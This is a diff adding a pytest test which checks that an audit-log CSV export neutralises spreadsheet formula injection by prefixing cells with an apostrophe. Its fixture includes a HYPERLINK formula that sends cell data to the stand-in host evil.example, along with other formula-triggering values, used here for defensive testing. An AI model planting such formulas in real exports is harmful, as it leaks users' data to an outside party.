@@ -240,3 +240,21 @@ def test_role_changes_and_removals_are_owner_only_recorded_and_keep_an_owner(db)
     with pytest.raises(NotFound):  # another business's member
         team.remove_member(db, tenant_id=other.tenant_id, actor_user_id=other.user_id,
                            user_id=owner.user_id)
+
+
+def test_no_exported_cell_runs_as_a_spreadsheet_formula():
+    # a business named =HYPERLINK(…) became a live link in the platform's audit CSV
+    # (2026-12-03): such cells now start with an apostrophe, shown as plain text
+    import csv
+    import io
+
+    from ylada_app.services import audit_view
+
+    text = audit_view.csv_text([{
+        "when": "03/12/2026 10:00", "who": "+5511999990000", "what": "Entrou",
+        "target": "@SUM(A1:A9)", "details": "\t=1+1",
+        "business": '=HYPERLINK("https://evil.example/?d="&A2,"Ver detalhes")',
+        "ip": "-2+3"}], with_business=True)
+    cells = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
+    assert cells[5] == '\'=HYPERLINK("https://evil.example/?d="&A2,"Ver detalhes")'
+    assert [c[:1] for c in cells] == ["0", "'", "E", "'", "'", "'", "'"]
